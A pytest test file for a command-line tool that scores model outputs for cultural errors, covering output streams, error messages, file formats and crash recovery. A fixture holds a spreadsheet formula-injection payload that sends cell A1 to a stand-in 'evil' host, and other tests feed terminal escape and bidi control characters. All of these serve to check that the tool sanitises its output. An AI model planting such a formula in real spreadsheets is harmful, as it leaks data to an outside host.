"""The command line: data on stdout, the rest on stderr, one line and an exit code for whatever cannot be done."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from threading import Thread

import pytest
from small_adapters import make
from typer.main import get_command
from typer.testing import CliRunner

from excam import cli, load
from excam.core import provenance, release, versions
from excam.error_reports import judges
from excam.error_reports.judges import report
from excam.error_reports.records import CulturalError, Report
from excam.inference import backend_factory, fake
from excam.scoring import files, metric, result_files
from excam.scoring.options import METRICS
from excam.scoring.rows import RowFile

ROOT = Path(__file__).parents[2]
ERRORS = ("Sushi", "major", "incorrect answer"), ("absent words", "minor", "stereotyping")
FOUND = Report(tuple(CulturalError("output", *error) for error in ERRORS), "Sushi is Japanese.\x1b[2J")
ESCAPE = "\x1b[31mred\x1b[0m \x07\x08\x9b \x7f"


def answer(request) -> str:
    text = request.messages[-1].content
    return "There is no error." if "mumble" in text else report.write(FOUND if "Sushi" in text else Report())


def test_the_version_is_that_of_every_signature():
    result = CliRunner().invoke(cli.app, ["--version"])
    assert (result.exit_code, result.stdout.strip()) == (0, release.VERSION)


@pytest.fixture
def backend(monkeypatch):
    made = fake.Backend(answer)
    monkeypatch.setattr(backend_factory.LazyBackend, "_open", lambda _: made)
    return made


@pytest.fixture(autouse=True)
def here(own_environment, tmp_path, monkeypatch):
    """A folder with an adapter where the workflow puts it."""
    monkeypatch.setattr(provenance.warnings, "simplefilter", lambda *_, **__: None)
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.chdir(tmp_path)
    make(Path("results"), "smollm2-135m")


def excam(*words: str, stdin: bytes | str = b"", charset: str = "utf-8"):
    result = CliRunner(charset=charset).invoke(cli.app, list(words), input=stdin)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    return result


def texts(*rows, name: str = "texts.jsonl") -> str:
    rows = [{"instruction": "A?", **row} if "output" in row else row for row in rows]
    Path(name).write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return name


def stopped(*words: str, **more) -> str:
    """The one line its user reads; nothing is on stdout, and the exit code says so."""
    result = excam(*words, **more)
    assert result.exit_code == 2
    assert result.stdout == ""
    lines = [line for line in result.stderr.splitlines() if not line.startswith("using ")]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("excam: ")
    return lines[0]


def test_data_goes_to_stdout_and_the_rest_to_stderr(backend):
    result = excam("score", texts({"id": "a", "output": "Moussaka."}, {"output": "Sushi rolls."}))
    assert result.exit_code == 0
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["id"] for row in rows] == ["a", "#2"]
    assert [row["score"] < 0 for row in rows] == [False, True]
    assert rows[1]["report"]["errors"][0]["span"] == "Sushi"
    assert "2 rows: 1 with errors, 0 not judged" in result.stderr
    assert result.stderr.splitlines()[-1].startswith("excam|model:smollm2-135m@cccccccc|on:all@")


def explained(*rows, charset: str = "utf-8", **more) -> str:
    """What `excam explain` shows of rows that `excam score` scored before."""
    return excam("explain", "-", stdin=excam("score", texts(*rows)).stdout, charset=charset).stdout


def test_errors_are_marked_where_they_stand(backend):
    shown = explained({"output": "Greeks eat Sushi."})
    assert excam("score", texts({"output": "Greeks eat Sushi."}), "--to", "scored.jsonl").stdout == ""
    assert excam("explain", "scored.jsonl").stdout == shown
    assert "── 1 · score -6.000" in shown
    assert "   output: Greeks eat [Sushi].\n" in shown
    assert "   major (-5): incorrect answer: 'Sushi'\n" in shown
    assert "   minor (-1): stereotyping: 'absent words', not found in the text\n" in shown
    assert "   why: Sushi is Japanese." in shown


def test_explain_shows_what_was_asked_for_and_sums_up(backend):
    rows = [{"output": "Sushi."}, {"output": "mumble"}, {"output": "x"}, {"output": "Sushi!"}, {"output": "Sushi?"}]
    excam("score", texts(*rows), "--to", "scored.jsonl")
    everything = excam("explain", "scored.jsonl").stdout
    assert everything.startswith("   marked: [minor: -1] [major: -5];")
    assert "── 5 rows: 3 with errors, 1 not judged; 5 shown\nfailed because: no-json (1)\nwarning: lang" in everything
    assert "\nexcam|model:" in everything
    wrong = excam("explain", "scored.jsonl", "--only", "errors", "--limit", "2").stdout
    assert re.findall(r"^── (\d) ·", wrong, re.MULTILINE) == ["1", "4"]
    assert "── 4 rows: 2 with errors, 1 not judged; 2 shown" in wrong
    assert wrong.endswith("stopped at the limit: rows behind were not looked at\n")
    failures = excam("explain", "scored.jsonl", "--only", "failures").stdout
    assert re.findall(r"^── (\d) ·", failures, re.MULTILINE) == ["2"]
    assert "5 rows: 3 with errors, 1 not judged; 1 shown" in failures
    assert "found bad; expected all, errors, failures, not-" in stopped("explain", "scored.jsonl", "--only", "bad")


def test_explain_wraps_behind_its_margin(backend, monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")
    shown = explained({"output": "word " * 40 + "寿司" * 60, "id": "a"})
    body = shown[shown.index("output: ") - 3 : shown.index("── 1 rows")].splitlines()
    assert len(body) > 9
    assert all(line.startswith("   ") for line in body)
    assert "".join(line.strip() for line in body).count("寿司") == 60


def test_control_characters_do_not_reach_the_terminal(backend):
    row = {"id": "i" + ESCAPE, "instruction": ESCAPE, "output": f"{ESCAPE} Sushi {ESCAPE}"}
    shown = explained(row)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    assert r"\x1b[31mred\x1b[0m \x07\x08\x9b \x7f [Sushi] \x1b[31m" in shown
    assert r"why: Sushi is Japanese.\x1b[2J" in shown
    result = excam("score", texts(row))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.stderr)
    (line,) = result.stdout.splitlines()
    assert json.loads(line)["texts"]["output"] == row["output"], "the data are what they were"
    assert "\x1b" not in line


def test_stdout_that_cannot_hold_a_character(backend):
    file = texts({"output": "寿司 \ud800"}, {"output": "é"})
    for charset in ("utf-8", "ascii"):
        result = excam("score", file, charset=charset)
        assert result.exit_code == 0
        assert [json.loads(line)["texts"]["output"] for line in result.stdout.splitlines()] == ["寿司 \ud800", "é"]
    assert "寿司" in excam("score", texts({"output": "寿司"})).stdout, "readable where it can be"


@pytest.mark.parametrize(("charset", "dish"), [("ascii", r"\u5bff\u53f8 \xe9"), ("latin-1", r"\u5bff\u53f8 é")])
def test_people_read_escapes_where_stdout_cannot_hold_a_character(backend, charset, dish):
    for name, output in (("a", "Sushi"), ("b", "x")):
        excam("score", texts({"output": output, "instruction": "寿司 é"}), "--to", f"{name}.jsonl")
    for words in (("explain", "a.jsonl"), ("compare", "a.jsonl", "b.jsonl")):
        assert f"instruction: {dish}\n" in excam(*words, charset=charset).stdout
        assert "instruction: 寿司 é\n" in excam(*words).stdout


def test_a_stdout_that_takes_nothing_is_one_line(backend):
    """In processes of their own: what is left in the buffer is not tried again, with a complaint, at the end."""
    excam("score", texts({"output": "x"}), "--to", "a.jsonl")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = f"{sys.executable} -m excam explain a.jsonl"
    ends = [f"{command} > /dev/full", f"{command} >&-"]
    running = [subprocess.Popen(["sh", "-c", end], stderr=subprocess.PIPE, text=True, env=env) for end in ends]
    assert [process.communicate()[1] for process in running] == [
        "excam: output: no space left on device; expected a file that can be read or written\n",
        "excam: stdout: is closed; expected a file or a terminal\n",
    ]
    assert [process.returncode for process in running] == [2, 2]


def test_rows_that_were_not_judged(backend):
    some = excam("score", texts({"output": "mumble"}, {"output": "x"}))
    assert some.exit_code == 0
    assert "── 1 · failure: no-json" in explained({"output": "mumble"})
    assert "2 rows: 0 with errors, 1 not judged\nfailed because: no-json (1)\n" in some.stderr
    row = json.loads(some.stdout.splitlines()[0])
    assert (row["score"], row.get("report"), row["failure"]) == (None, None, "no-json")
    none = excam("score", texts({"output": "mumble"}))
    assert "1 rows: 0 with errors, 1 not judged" in none.stderr
    assert none.exit_code == 1


def test_a_crash_loses_no_answer(backend, monkeypatch):
    file = texts(*({"output": f"dish {number}"} for number in range(20)))
    real = backend.generate

    def dies(requests, sampling):
        batches = real(requests, sampling)
        yield next(batches)
        raise KeyboardInterrupt

    monkeypatch.setattr(backend, "generate", dies)
    CliRunner().invoke(cli.app, ["score", file, "--to", "scored.jsonl"])
    assert not Path("scored.jsonl").exists()
    assert Path(".scored.jsonl.journal").exists()
    monkeypatch.setattr(backend, "generate", real)
    backend.asked.clear()
    assert excam("score", file, "--to", "scored.jsonl").exit_code == 0
    assert len(backend.asked) == 20 - fake.ROWS_PER_BATCH
    assert len(Path("scored.jsonl").read_text().splitlines()) == 20


def test_a_file_that_cannot_be_scored_is_one_line(backend):
    Path("in.jsonl").write_bytes(b'{"a\\nb\\u001b[31m": 1}\n')
    assert r"in.jsonl: column instruction, output: not found; found a b\x1b[31m; give" in stopped("score", "in.jsonl")
    assert backend.asked == []


def test_a_bad_row_is_a_failed_row_and_the_others_are_scored(backend):
    first, fourth = (json.dumps({"instruction": "A?", "output": "x", "id": name}).encode() for name in (1, "1"))
    rows = first, b"no json", b'{"instruction": "A?", "output": "caf\xff"}', fourth
    Path("in.jsonl").write_bytes(b"\n".join(rows))
    result = excam("score", "in.jsonl")
    scored_rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["failure"] for row in scored_rows] == [None, "not-json", "not-utf8", "duplicate-id"]
    assert (result.exit_code, len(backend.asked)) == (0, 1)
    first, *_ = result.stderr.splitlines()
    assert first == "excam: warning: 3 of 4 rows cannot be scored; the first: in.jsonl: row 2 (#2): not-json"
    assert "4 rows: 0 with errors, 3 not judged\nfailed because: " in result.stderr
    assert "not-json (1)" in result.stderr
    assert "── 1#4 · failure: duplicate-id" in excam("explain", "-", "--only", "failures", stdin=result.stdout).stdout


def test_strict_stops_at_a_bad_row(backend):
    texts({"output": "x"}, {"output": None}, {"output": "z"}, name="in.jsonl")
    assert "in.jsonl: row 2 (2): missing-output; expected none with" in stopped("score", "in.jsonl", "--strict")
    assert backend.asked == []
    assert excam("score", texts({"output": "x"}), "--strict").exit_code == 0


def test_columns_and_formats_are_said_in_a_line(backend):
    Path("in.csv").write_text("Frage;Antwort;Note\nWas?;Sushi.;3,5\n")
    result = excam("score", "in.csv", "--output", "Note", "--column", "instruction=Antwort")
    read_as = "read Antwort as instruction, Note as output; not read, kept in `columns`: Frage"
    assert f"in.csv: semicolons; {read_as}\n" in result.stderr
    assert json.loads(result.stdout)["texts"] == {"instruction": "Sushi.", "output": "3,5"}
    assert "--column: found x; expected NAME=COLUMN" in stopped("score", "in.csv", "--column", "x")


# --- what is written


def test_a_file_that_is_there_is_not_written_over(backend):
    file = texts({"output": "x"})
    assert "unknown kind .txt; expected .jsonl, .parquet, .csv" in stopped("score", file, "--to", "notes.txt")
    excam("score", file, "--to", "c.jsonl")
    line = stopped("score", texts({"output": "other"}), "--to", "c.jsonl")
    assert line.endswith("name another file, or give --overwrite")
    assert excam("score", file, "--to", "c.jsonl", "--overwrite").exit_code == 0
    assert json.loads(Path("c.jsonl").read_text())["texts"]["output"] == "other"
    assert "--overwrite: found without --to" in stopped("score", file, "--overwrite")
    Path("page.html").write_text("<!doctype html><p>mine")
    assert "page.html: is there, and is another file" in stopped("report", "c.jsonl", "--to", "page.html")
    assert excam("report", "c.jsonl", "--to", "page.html", "--overwrite").exit_code == 0
    assert excam("report", "c.jsonl", "--to", "page.html").exit_code == 0, "an earlier page of the same command"


FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
ROUND = [
    {"id": "a", "output": 'Sushi, "raw"\nand more; yes', "language": "English"},
    {"id": "b", "output": FORMULA, "system": "-1"},
    {"id": "'c", "output": "mumble \ud800", "culture": "Greece"},
    {"id": "d", "output": ""},
]


@pytest.mark.parametrize("kind", ["jsonl", "parquet", "csv"])
def test_the_suffix_decides_the_format_and_every_command_reads_it_back(backend, kind):
    plain = [json.loads(line) for line in excam("score", texts(*ROUND)).stdout.splitlines()]
    to = f"new/scored.{kind}"
    assert excam("score", texts(*ROUND), "--to", to).exit_code == 0
    assert [path.name for path in Path("new").iterdir()] == [f"scored.{kind}"], "the journal is no longer needed"
    assert [row.to_dict() for row in result_files.read(Path(to))] == plain
    assert excam("explain", to).stdout == explained(*ROUND)
    assert excam("report", to, "--to", f"{kind}.html").exit_code == 0
    assert stopped("compare", to, to) == f"excam: {to}: given twice; expected one file for each system"
    excam("score", texts(*ROUND), "--to", "other.jsonl")
    assert "4 rows in A, 4 in B: 2 compared." in excam("compare", to, "other.jsonl").stdout
    Path("labels.csv").write_text("id,label\na,0\nb,1\n'c,1\n")
    assert excam("meta", "labels.csv", to, "--json").exit_code == 0
    backend.asked.clear()
    assert (excam("score", texts(*ROUND), "--to", to).exit_code, backend.asked) == (0, [])


def test_a_table_for_a_spreadsheet(backend):
    excam("score", texts(*ROUND), "--to", "scored.csv")
    data = Path("scored.csv").read_bytes()
    head = b"\xef\xbb\xbfid,score,failure,verdict,instruction,output,explanation,texts,"
    assert data.startswith(head), "the mark by which Excel knows UTF-8, and cells for people"
    cells = [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in line]
    assert not [cell for cell in cells if cell[:1] in "=+@" and cell], "no formula"
    assert "'-1" in cells or "-1" in cells


def test_several_files_have_one_result_file_each(backend):
    a, b = texts({"output": "Sushi"}, name="a.jsonl"), texts({"output": "x"}, {"output": "y"}, name="b.jsonl")
    result = excam("score", a, b, "--to", "scored")
    assert result.exit_code == 0
    assert "3 rows: 1 with errors" in result.stderr
    assert [len(Path("scored", name).read_text().splitlines()) for name in (a, b)] == [1, 2]
    assert "═══ scored/a.jsonl\n" in excam("explain", "scored/a.jsonl", "scored/b.jsonl").stdout
    assert "--to: missing for 2 files, whose rows would be mixed" in stopped("score", a, b)
    errors = excam("explain", "scored/a.jsonl", "scored/b.jsonl", "--only", "errors", "--json").stdout
    assert [json.loads(line)["texts"]["output"] for line in errors.splitlines()] == ["Sushi"]
    assert "found one.jsonl for 2 files; expected a folder" in stopped("score", a, b, "--to", "one.jsonl")
    Path("other").mkdir()
    texts({"output": "x"}, name="other/a.jsonl")
    assert "2 files, and two of one name" in stopped("score", a, "other/a.jsonl", "--to", "scored")


def test_what_was_never_scored_cannot_be_explained(backend):
    file = texts({"output": "x"})
    line = "excam: texts.jsonl: no scored rows; score it first: excam score texts.jsonl --to scored.jsonl"
    assert stopped("explain", file) == line
    assert stopped("explain", "absent.jsonl").startswith("excam: absent.jsonl: no such file or directory; expected")


def test_a_long_text_is_shown_around_its_marked_words(backend):
    text = "kebab " * 500 + "Sushi" + " kebab" * 500
    excam("score", texts({"output": text}), "--to", "scored.jsonl")
    shown = excam("explain", "scored.jsonl").stdout
    assert len(shown) < 1500
    assert "[Sushi]" in shown
    assert "[…2,880 characters…]" in shown
    assert len(excam("explain", "scored.jsonl", "--whole").stdout) > 6000


def test_the_input_is_not_written_over(backend):
    file = texts({"output": "x"})
    before = Path(file).read_bytes()
    assert f"{file}: is the input; expected another file" in stopped("score", file, "--to", f"./{file}")
    assert Path(file).read_bytes() == before
    Path("folder/texts.jsonl").mkdir(parents=True)
    line = stopped("score", file, "--to", "folder")
    assert line == "excam: folder/texts.jsonl: is a folder; expected another file to write to"
    assert backend.asked == []


# --- list, lock, help


def test_list_judges_and_benchmarks():
    assert excam("list", "judges").stdout.split() == list(judges.available())
    head, *rows, total = [line.split("\t") for line in excam("list").stdout.splitlines()]
    assert head == ["dataset", "task", "errors", "licence", "permissive", "rows", "source"]
    assert [row[0] for row in rows] == sorted(row[0] for row in rows)
    assert len(rows) == 9
    assert {row[1] for row in rows} == {"qa", "freeform", "generation", "impersonation"}
    assert {row[2] for row in rows} == {"hard", "soft"}
    assert {row[3] for row in rows if row[4] == "yes"} == {"Apache-2.0", "CC-BY-4.0", "MIT"}
    assert {row[3] for row in rows if row[4] == "no"} == {"CC-BY-SA-4.0", "CC-BY-NC-SA-4.0"}
    assert all(len(row) == 7 and all(row) for row in [*rows, total])
    assert {row[5] for row in rows} == {"–"}
    assert total == ["all", *"––––", "0", "–"]


def test_list_counts_the_build_at_hand():
    for name, content in (("blend", '{"rows": 40}'), ("epic", '{"rows": 2}'), ("mango", "torn"), ("normad", "{}")):
        Path(f"results/excam40k/{name}").mkdir(parents=True)
        Path(f"results/excam40k/{name}/counts.json").write_text(content)
    rows = {row[0]: row[5] for row in (line.split("\t") for line in excam("list", "datasets").stdout.splitlines())}
    assert (rows["blend"], rows["epic"], rows["mango"], rows["normad"], rows["all"]) == ("40", "2", "–", "–", "42")
    assert "\t42\t-\n" in excam("list", charset="ascii").stdout, "a dash that every terminal has"


def test_list_what_is_no_list():
    assert stopped("list", "models") == "excam: models: nothing to list; known: metrics, datasets, judges"
    assert "did you mean metrics? known" in stopped("list", "metric")


def test_list_metrics_says_what_each_reads_and_needs():
    shown = excam("list", "metrics").stdout
    assert "bleu\n    reads translation, reference, target_language\n    returns mean over sentences, more is" in shown
    entries = [json.loads(line) for line in excam("list", "metrics", "--json").stdout.splitlines()]
    assert [entry["metric"] for entry in entries] == sorted(metric.available())
    assert {entry["metric"]: entry["needs"] for entry in entries}["calmqa"] == "a model and an index of evidence"
    assert sorted(METRICS.split(", ")) == sorted(metric.available()), "excam score --help lists them"
    assert all(json.loads(line) for line in excam("list", "--json").stdout.splitlines())


def test_lock_says_what_changed(monkeypatch):
    monkeypatch.setattr(versions, "lock", lambda: ["excam/stats/pairs.py", "scripts/score.py"])
    assert excam("lock").stdout == "excam/stats/pairs.py\nscripts/score.py\n"
    monkeypatch.setattr(versions, "lock", list)
    assert excam("lock").stdout == "nothing changed\n"


def test_without_a_command_comes_help():
    shown = excam()
    assert shown.exit_code == 2
    assert all(command in shown.output for command in ("score", "list", "lock"))


def test_the_help_imports_no_command():
    """Most of its time was the imports of all systems; polars, NumPy and pydantic belong to what commands do."""
    code = "import sys, atexit; atexit.register(lambda: print(*sys.modules)); from excam.cli import app; app()"
    done = subprocess.run([sys.executable, "-c", code, "--help"], capture_output=True, text=True, check=True)
    modules = done.stdout.splitlines()[-1].split()
    own = {"cli", "core", "core.exceptions", "core.offline", "core.release"}
    assert {name.removeprefix("excam.") for name in modules if name.startswith("excam.")} == own
    assert not {"polars", "numpy", "scipy", "pydantic", "yaml", "httpx", "torch"} & set(modules)


@pytest.mark.parametrize("name", cli.COMMANDS)
def test_the_help_lists_a_command_by_its_own_help(name):
    group = get_command(cli.app)
    summary = group.listed().commands[name].short_help
    assert summary
    assert summary == " ".join(group.get_command(None, name).help.split("\n\n")[0].split())


def test_as_a_program():
    """The exit code and the streams of a real process."""
    command = [sys.executable, "-m", "excam"]
    done = subprocess.run([*command, "score", "absent"], capture_output=True, cwd=ROOT, check=False)
    said = [line for line in done.stderr.splitlines() if not line.startswith(b"using ")]  # where there are results
    assert (done.returncode, done.stdout, len(said)) == (2, b"", 1)


# --- journal


def test_a_run_that_failed_is_begun_again_in_the_same_program(backend, monkeypatch):
    scorer = load("smollm2-135m/all")
    rows = RowFile(Path(texts({"output": "x"}, {"output": "y"})), scorer.metric)
    asking = backend.generate
    monkeypatch.setattr(backend, "generate", lambda *_: (_ for _ in ()).throw(RuntimeError("gone")))
    running = files.results(scorer, rows, 2, Path("scored.jsonl"))
    with pytest.raises(RuntimeError, match="gone") as kept:
        next(running)
    monkeypatch.setattr(backend, "generate", asking)
    assert len(list(files.results(scorer, rows, 2, Path("scored.jsonl")))) == 2, kept.traceback


def test_where_nothing_but_a_plain_file_is_written(backend):
    assert "/dev/null: is no plain file" in stopped("score", texts({"output": "x"}), "--to", "/dev/null")
    Path("link.jsonl").symlink_to("behind.jsonl")
    assert excam("score", texts({"output": "x"}), "--to", "link.jsonl").exit_code == 0
    assert Path("link.jsonl").is_symlink()
    assert json.loads(Path("behind.jsonl").read_text())["texts"]["output"] == "x"


def piped(data: bytes, name: str = "pipe") -> str:
    """A pipe with these bytes in it, which is empty once they were read."""
    Path(name).unlink(missing_ok=True)
    os.mkfifo(name)
    Thread(target=Path(name).write_bytes, args=(data,)).start()
    return name


def test_files_of_every_command_about_scored_rows_may_be_pipes(backend):
    """`excam compare <(zcat ours.jsonl.gz) theirs.jsonl`; the same lines as of files."""
    gold = [{"id": number, "label": number, "instruction": f"i{number}"} for number in range(12)]
    rows = [{**row, "score": row["label"] % 5, "signature": "metric:1"} for row in gold]
    rows = [{name: value for name, value in row.items() if name != "label"} for row in rows]
    of_gold, of_rows = ("".join(json.dumps(row) + "\n" for row in lines).encode() for lines in (gold, rows))
    for name, data in (("gold.jsonl", of_gold), ("ours.jsonl", of_rows), ("theirs.jsonl", of_rows)):
        Path(name).write_bytes(data)
    meta = excam("meta", "gold.jsonl", "ours.jsonl", "--json").stdout
    assert excam("meta", piped(of_gold, "gold"), piped(of_rows, "ours"), "--json").stdout == meta.replace(".jsonl", "")
    compared = excam("compare", "ours.jsonl", "theirs.jsonl", "--json").stdout
    assert excam("compare", piped(of_rows, "ours"), "theirs.jsonl", "--json").stdout == compared


@pytest.mark.parametrize(
    ("command", "rows", "page"), [("score", "texts.jsonl", "x.jsonl"), ("report", "scored.jsonl", "x.html")]
)
def test_a_place_that_cannot_be_written_is_one_line(backend, command, rows, page):
    excam("score", texts({"output": "x"}), "--to", "scored.jsonl")
    line = stopped(command, rows, "--to", f"texts.jsonl/{page}")
    assert line == "excam: texts.jsonl: file exists; expected a file that can be read or written"


def test_no_sign_of_a_text_turns_the_terminal_around_or_is_markup(backend):
    assert "   output: [bold]x[/bold] [/] :smile:\n" in explained({"output": "[bold]x[/bold] [/] :smile:"})
    assert r"a \u202eb\u2066 \U000e0041" in explained({"output": "a \u202eb\u2066 \U000e0041"})
    england = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    assert f"a {england}." in explained({"output": f"a {england}."})
